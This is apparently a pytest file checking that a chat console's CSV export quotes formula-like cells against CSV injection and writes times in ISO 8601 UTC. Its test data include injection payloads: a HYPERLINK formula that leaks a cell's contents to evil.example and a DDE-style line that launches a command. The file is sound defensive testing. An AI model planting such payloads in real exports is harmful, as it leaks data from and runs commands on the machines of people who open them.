"""The console's CSV export: no cell a spreadsheet would run as a formula (CSV injection), and
times a spreadsheet reads, with their zone; from the rule on one cell to a chat message kept by a
real server and exported over HTTP."""

from __future__ import annotations

import asyncio
import csv
import dataclasses
import io
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import aiohttp
import pytest

from tests.support.fakes import ScriptedAgent
from tests.support.servers import make_services
from voice.config import ServerSettings, Settings
from voice.office.backoffice import Office, open_office
from voice.office.console import csv_cell, csv_time
from voice.ops.server import start_server

PASSWORD = "correct horse battery"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("http://evil.example","click")',
            '\'=HYPERLINK("http://evil.example","click")',
        ),
        ("+1 555 0100", "'+1 555 0100"),
        ("-5", "'-5"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
    ],
)
def test_text_that_starts_like_a_formula_gets_a_quote(cell: str, written: str) -> None:
    assert csv_cell(cell) == written


@pytest.mark.parametrize(
    "cell",
    ["how do I reset it?", "a = b", "'=already quoted", " =1+1", "", "[phone]"],
)
def test_other_text_is_written_as_it_is(cell: str) -> None:
    assert csv_cell(cell) == cell


@pytest.mark.parametrize("value", [-5, 12.5, 0, True, None])
def test_numbers_and_flags_the_server_writes_are_left_alone(value: object) -> None:
    assert csv_cell(value) is value


@pytest.fixture
async def chat_server(models, tmp_path: Path) -> AsyncIterator[tuple[str, dict, Office]]:
    """(base URL, supervisor auth, office) of a server whose chat sessions end after 0.2 s."""
    settings = dataclasses.replace(Settings(), server=ServerSettings(data_dir=tmp_path))
    office = open_office(settings)
    office.users.add("alice", PASSWORD)
    agent = ScriptedAgent(reply="-1 is not a valid quantity.")
    services = make_services(models, agent, call={"text_idle_timeout_s": 0.2})
    runner, port = await start_server(services, "127.0.0.1", 0, office)
    base = f"http://127.0.0.1:{port}"
    try:
        login = {"name": "alice", "password": PASSWORD}
        async with aiohttp.ClientSession() as http, http.post(f"{base}/api/login", json=login) as r:
            auth = {"Authorization": f"Bearer {(await r.json())['token']}"}
        yield base, auth, office
    finally:
        await runner.cleanup()
        office.close()


async def chat(base: str, message: str) -> str:
    """Ask `message` on the text API; the call id its session is kept under."""
    async with (
        aiohttp.ClientSession() as http,
        http.post(f"{base}/api/chat", json={"message": message}) as response,
    ):
        assert response.status == 200
        return str((await response.json())["call_id"])


async def exported_row(base: str, auth: dict, office: Office, call_id: str) -> dict[str, str]:
    """The CSV row of the call's one turn, exported over HTTP."""
    assert office.store.flush(10)
    async with (
        aiohttp.ClientSession() as http,
        http.get(f"{base}/api/calls/{call_id}?format=csv", headers=auth) as response,
    ):
        assert response.status == 200
        exported = await response.text()
    [row] = csv.DictReader(io.StringIO(exported))
    assert row["call_id"] == call_id
    return row


async def test_a_formula_typed_in_a_chat_is_exported_as_text(chat_server) -> None:
    """The reported attack: a chat message "=HYPERLINK(...)" kept by the server and exported by
    a supervisor as CSV must not reach the spreadsheet as a formula."""
    base, auth, office = chat_server
    attack = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")'
    row = await exported_row(base, auth, office, await chat(base, attack))
    assert row["question"] == "'" + attack
    assert row["reply"] == "'-1 is not a valid quantity."
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())


def test_a_time_is_iso_8601_in_utc_with_its_offset() -> None:
    assert csv_time(1_741_944_413.5893) == "2025-03-14T09:26:53.589+00:00"
    assert csv_time(None) == ""


async def test_exported_times_say_their_zone(chat_server) -> None:
    """Times were exported as Unix seconds (`1741944413.589`), which a spreadsheet does not
    read as a time, and which say nothing of the zone."""
    base, auth, office = chat_server
    feed = office.hub.subscribe()
    before = datetime.now(UTC)
    call_id = await chat(base, "how do I reset it?")
    async with asyncio.timeout(10):
        async for event in feed:
            if event["type"] == "call.ended":  # the session is over after 0.2 s without a word
                break
    feed.close()
    row = await exported_row(base, auth, office, call_id)
    times = [datetime.fromisoformat(row[name]) for name in ("started_at", "at", "ended_at")]
    assert all(moment.utcoffset() == timedelta(0) for moment in times), row
    assert before - timedelta(seconds=1) <= times[0] <= times[1] <= times[2] <= datetime.now(UTC)
